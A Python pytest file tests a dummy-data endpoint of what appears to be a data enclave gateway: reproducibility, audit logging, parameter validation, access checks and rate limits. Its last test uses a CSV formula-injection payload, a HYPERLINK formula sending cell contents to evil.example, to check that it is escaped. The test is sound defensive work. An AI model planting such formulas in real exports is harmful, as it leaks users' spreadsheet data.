"""Dummy data (``GET /v1/datasets/{name}/dummy``): public metadata only, free, reproducible,
audited, and never reading the source (docs/researcher.md, "Dummy data")."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from enclave.audit.log import AuditFilter
from enclave.dummy import MAX_ROWS, DummyRequest, render_dummy

URL = "/v1/datasets/visits/dummy"


def _order(name: str) -> int:  # unknown parameters first, then as the handler reads them
    return ["colour", "rows", "seed", "format"].index(name)


async def _get(gw: Any, path: str = URL, sub: str = "alice", **params: Any) -> Any:
    query = {k: str(v) for k, v in params.items()}
    return await gw.client.get(path, params=query, headers=gw.auth(sub))


async def test_dummy_follows_the_public_metadata(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence()
    resp = await _get(gw, rows=2000, seed=7)
    assert resp.status == 200, await resp.text()
    assert resp.content_type == "application/vnd.apache.parquet"
    assert "visits-dummy-2000-7.parquet" in resp.headers["Content-Disposition"]
    table = pq.read_table(io.BytesIO(await resp.read()))
    assert table.num_rows == 2000
    spec = await gw.services.registry.dataset("visits")
    assert table.column_names == [c.name for c in spec.columns]
    assert set(table.column_names) == {"person_id", "age", "sex", "region", "cost", "visit_date"}
    rows = table.to_pylist()
    k = spec.max_rows_per_unit
    per_unit: dict[str, int] = {}
    for row in rows:
        per_unit[row["person_id"]] = per_unit.get(row["person_id"], 0) + 1
        assert 0 <= row["age"] <= 110 and 0 <= row["cost"] <= 50000
        assert row["sex"] in ("F", "M")
        assert row["region"] in ("north", "south", "east", "west", "central")
        assert str(row["visit_date"]) >= "2015-01-01" and str(row["visit_date"]) <= "2025-12-31"
    assert max(per_unit.values()) <= k and min(per_unit.values()) >= 1
    assert len(per_unit) < 2000  # several rows per unit, as in the real table
    assert {r["region"] for r in rows} == {"north", "south", "east", "west", "central"}


async def test_same_seed_same_bytes_other_seed_other_rows(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence()
    first = await (await _get(gw, rows=300, seed=42)).read()
    again = await (await _get(gw, rows=300, seed=42)).read()
    other = await (await _get(gw, rows=300, seed=43)).read()
    assert first == again
    assert first != other
    csv1 = await (await _get(gw, rows=300, seed=42, format="csv")).read()
    csv2 = await (await _get(gw, rows=300, seed=42, format="csv")).read()
    assert csv1 == csv2
    assert csv1.decode().splitlines()[0] == "age,cost,person_id,region,sex,visit_date"
    assert len(csv1.decode().splitlines()) == 301


async def test_dummy_is_free_and_audited_once(make_gateway: Any) -> None:
    gw = await make_gateway()
    lic = await gw.licence()
    store = gw.services.store
    before = await store.audit_events(AuditFilter(actor="alice"), 0, 100)
    resp = await _get(gw, rows=10, seed=1, format="csv")
    assert resp.status == 200
    after = await store.audit_events(AuditFilter(actor="alice"), 0, 100)
    assert len(after) == len(before) + 1
    rec = after[-1]
    assert (rec.action, rec.outcome, rec.epsilon, rec.delta) == ("dataset.dummy", "ok", 0, 0)
    assert rec.dataset == "visits" and rec.licence_id == lic.id
    assert (rec.detail or {})["dummy"] == {"rows": 10, "seed": 1, "format": "csv"}
    budget = await (await gw.client.get("/v1/budget", headers=gw.auth())).json()
    assert budget["budgets"][0]["epsilon_spent"] == 0


async def test_dummy_never_reads_the_source(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence()
    spec = await gw.services.registry.dataset("visits")
    Path(spec.source_path).unlink()
    resp = await _get(gw, rows=50, seed=3, format="csv")
    assert resp.status == 200, await resp.text()
    assert len((await resp.read()).decode().splitlines()) == 51
    assert not Path(spec.source_path).exists()


@pytest.mark.parametrize(
    ("params", "problems"),
    [
        ({"rows": 0}, ["rows"]),
        ({"rows": MAX_ROWS + 1}, ["rows"]),
        ({"rows": "²"}, ["rows"]),
        ({"seed": 2**53}, ["seed"]),
        ({"seed": -1}, ["seed"]),
        ({"format": "xlsx"}, ["format"]),
        (
            {"rows": "x", "seed": "y", "format": "z", "colour": "red"},
            ["rows", "seed", "format", "colour"],
        ),
    ],
)
async def test_bad_parameters_are_listed_together(
    make_gateway: Any, params: dict[str, Any], problems: list[str]
) -> None:
    gw = await make_gateway()
    await gw.licence()
    resp = await _get(gw, **params)
    assert resp.status == 400
    body = await resp.json(content_type=None)
    assert body["type"].endswith("/bad-request")
    assert [p.split(":")[0] for p in body["problems"]] == sorted(problems, key=_order)
    for name in problems:
        assert name in body["detail"]
    recs = await gw.services.store.audit_events(AuditFilter(actor="alice"), 0, 100)
    assert (recs[-1].action, recs[-1].outcome) == ("dataset.dummy", "denied")


async def test_unseen_dataset_is_404_and_roles_are_checked(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence(datasets=("other",))
    unseen = await _get(gw)
    unknown = await _get(gw, "/v1/datasets/nosuch/dummy")
    assert unseen.status == unknown.status == 404
    a = (await unseen.json(content_type=None))["detail"].replace("visits", "X")
    b = (await unknown.json(content_type=None))["detail"].replace("nosuch", "X")
    assert a == b
    resp = await gw.client.get(URL, headers=gw.auth(roles=["auditor"]))
    assert resp.status == 403
    assert (await _get(gw, rows=0)).status == 404  # access before parameters


async def test_suspended_licence_says_so(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence(status="suspended")
    resp = await _get(gw)
    assert resp.status == 403
    assert "suspended" in (await resp.json(content_type=None))["detail"]


async def test_dummy_shares_the_licence_rate_limit(make_gateway: Any) -> None:
    gw = await make_gateway()
    await gw.licence()
    admin = gw.auth("steward", ["admin"])
    tier = await (await gw.client.get("/v1/admin/tiers/standard", headers=admin)).json()
    tier.update(rate_limit_per_minute=2, reason="test: a small rate limit")
    put = await gw.client.put("/v1/admin/tiers/standard", json=tier, headers=admin)
    assert put.status == 200, await put.text()
    assert [(await _get(gw, rows=5)).status for _ in range(3)] == [200, 200, 429]


async def test_a_category_value_cannot_be_a_spreadsheet_formula_in_csv(make_gateway: Any) -> None:
    """A steward's declared value ``=HYPERLINK(…)`` reaches the CSV with a leading apostrophe;
    Parquet keeps the value as declared."""
    gw = await make_gateway()
    spec = await gw.services.registry.dataset("visits")
    formula = '=HYPERLINK("http://evil.example/?"&A2,"north")'
    columns = tuple(
        dataclasses.replace(c, values=(formula, "@SUM(A1)")) if c.name == "region" else c
        for c in spec.columns
    )
    hostile = dataclasses.replace(spec, columns=columns)
    text = render_dummy(hostile, DummyRequest(rows=200, seed=1, format="csv")).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["region"] for r in rows} == {"'" + formula, "'@SUM(A1)"}
    assert all(not r["age"].startswith("'") for r in rows)
    table = pq.read_table(io.BytesIO(render_dummy(hostile, DummyRequest(rows=200, seed=1))))
    assert set(table.column("region").to_pylist()) == {formula, "@SUM(A1)"}
